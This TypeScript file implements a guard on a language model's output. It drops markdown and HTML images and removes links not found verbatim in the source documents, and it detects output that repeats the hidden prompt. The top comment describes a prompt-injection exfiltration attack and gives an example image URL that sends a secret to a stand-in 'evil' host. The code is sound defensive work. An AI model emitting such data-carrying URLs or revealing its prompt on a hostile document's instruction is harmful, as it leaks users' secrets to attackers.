/**
 * The exfiltration guard on model output. A hostile document can ask the model to render an image
 * or a link whose URL carries data (`![x](https://evil/?q=<secret>)`): the reader's client would
 * send it on display or click. So images are dropped, and a link or URL survives only when it
 * appears verbatim in the sources. Every rule works within one line, so guarding a text line by
 * line (while streaming) gives exactly the same result as guarding it whole.
 */

const MARKDOWN_IMAGE = /!\[[^\]\n]*\]\([^)\n]*\)|!\[[^\]\n]*\]\[[^\]\n]*\]/g
const HTML_IMAGE = /<img\b[^>\n]*>?/gi
const MARKDOWN_LINK = /\[([^\]\n]*)\]\(\s*<?([^)\s>\n]*)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)/g
const REFERENCE_DEFINITION = /^(\s{0,3}\[[^\]\n]+\]:\s*)<?(\S+?)>?(\s.*)?$/
const AUTOLINK = /<((?:[a-z][a-z0-9+.-]*:|www\.)[^\s<>\n]*)>/gi
const BARE_URL = /\b(?:(?:https?|ftp|file|data|javascript|vbscript|mailto):|www\.)[^\s<>"'`\n]*/gi
const HTML_LINK = /<a\b[^>\n]*>|<\/a\s*>/gi

/** Trailing punctuation belongs to the sentence, not to the URL. */
function trimUrl(url: string): string {
  let end = url.length
  for (;;) {
    const last = url[end - 1] ?? ''
    const unbalanced = last === ')' && url.slice(0, end).split('(').length <= url.slice(0, end).split(')').length - 1
    if (end === 0 || !('.,;:!?\'"]}*_'.includes(last) || unbalanced)) break
    end--
  }
  return url.slice(0, end)
}

/** Guards output against the text of the sources it was written from. */
export class OutputGuard {
  constructor(private readonly sourcesText: string) {}

  private allowed(url: string): boolean {
    const trimmed = trimUrl(url)
    return trimmed === '' || this.sourcesText.includes(trimmed)
  }

  /** One line (no newline inside) with images removed and unknown links and URLs taken out. */
  guardLine(line: string): string {
    const definition = REFERENCE_DEFINITION.exec(line)
    if (definition && !this.allowed(definition[2] ?? '')) return ''
    return line
      .replace(MARKDOWN_IMAGE, '')
      .replace(HTML_IMAGE, '')
      .replace(HTML_LINK, '')
      .replace(MARKDOWN_LINK, (whole, label: string, target: string) => (this.allowed(target) ? whole : label))
      .replace(AUTOLINK, (whole, target: string) => (this.allowed(target) ? whole : ''))
      .replace(BARE_URL, (url: string) => {
        const kept = trimUrl(url)
        return this.allowed(kept) ? url : url.slice(kept.length)
      })
      .replace(/[ \t]{2,}/g, ' ')
  }

  /** A whole text, line by line. */
  guard(text: string): string {
    return text
      .split('\n')
      .map((line) => this.guardLine(line))
      .join('\n')
  }
}

/**
 * True when a line repeats a line of the hidden prompt (whitespace and case aside): the model
 * was talked into revealing it. Only lines long enough to be distinctive count.
 */
export function repeatsPrompt(line: string, promptLines: readonly string[]): boolean {
  const normal = normalise(line)
  if (normal.length < 20) return false
  return promptLines.some((promptLine) => {
    const target = normalise(promptLine)
    return target.length >= 30 && normal.includes(target)
  })
}

function normalise(text: string): string {
  return text.toLowerCase().replace(/\s+/g, ' ').trim()
}
